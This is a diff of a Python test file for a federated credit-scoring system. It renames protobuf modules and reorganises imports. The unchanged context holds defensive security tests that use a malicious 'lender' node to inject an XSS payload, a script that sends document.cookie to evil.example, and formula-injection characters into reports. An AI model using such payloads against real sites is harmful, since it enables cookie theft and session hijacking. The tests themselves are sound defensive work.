@@ -27,11 +27,11 @@ from fedcredit.config import Federation, load_federation
 from fedcredit.data.synthetic import write_institutions
 from fedcredit.errors import ProtocolError
 from fedcredit.node.driver import Driver
-from fedcredit.node.identity import ServerInterceptorBase
 from fedcredit.node.runtime import NodeOptions, build_node
-from fedcredit.node.server import NodeServer
-from fedcredit.node.tls import init_certs, load_channel_credentials
-from fedcredit.proto.v1 import party_pb2
+from fedcredit.node.transport.identity import ServerInterceptorBase
+from fedcredit.node.transport.server import NodeServer
+from fedcredit.node.transport.tls import init_certs, load_channel_credentials
+from fedcredit.proto.v1 import logistic_pb2
 from fedcredit.protocol.binning import REPORT_FIELDS, report_csv
 
 NODES = ("coordinator", "ecommerce", "payments", "lender")
@@ -44,7 +44,7 @@ MARKUP = "<img src=x onerror=alert(document.domain)>"
 SCRIPT = b"<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script>"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
-Tamper = Callable[[party_pb2.EvaluateReply], None]
+Tamper = Callable[[logistic_pb2.EvaluateReply], None]
 
 
 class EvilLender(ServerInterceptorBase):
@@ -64,7 +64,7 @@ class EvilLender(ServerInterceptorBase):
         behaviour = handler.unary_unary
 
         def run(request: Any, context: grpc.ServicerContext) -> Any:
-            reply = party_pb2.EvaluateReply()
+            reply = logistic_pb2.EvaluateReply()
             reply.CopyFrom(behaviour(request, context))
             if self.tamper is not None:
                 self.tamper(reply)
@@ -157,7 +157,7 @@ def out(nodes: Nodes, tmp_path: Path) -> Path:
 
 
 def adding(name: str, data: bytes) -> Tamper:
-    def tamper(reply: party_pb2.EvaluateReply) -> None:
+    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
         reply.files[name] = data
 
     return tamper
@@ -259,7 +259,7 @@ def test_a_lender_report_carrying_a_script_does_not_reach_the_operator(
 
 
 def test_markup_in_the_lender_metrics_is_escaped_in_the_report(nodes: Nodes, out: Path) -> None:
-    def tamper(reply: party_pb2.EvaluateReply) -> None:
+    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
         metrics = json.loads(reply.metrics_json)
         metrics[MARKUP] = MARKUP
         reply.metrics_json = json.dumps(metrics)
@@ -276,7 +276,7 @@ def test_markup_in_the_lender_metrics_is_escaped_in_the_report(nodes: Nodes, out
 def test_a_report_is_still_written_when_the_lender_metrics_cannot_make_a_summary(
     nodes: Nodes, out: Path
 ) -> None:
-    def tamper(reply: party_pb2.EvaluateReply) -> None:
+    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
         metrics = json.loads(reply.metrics_json)
         metrics["auc"] = MARKUP
         reply.metrics_json = json.dumps(metrics)
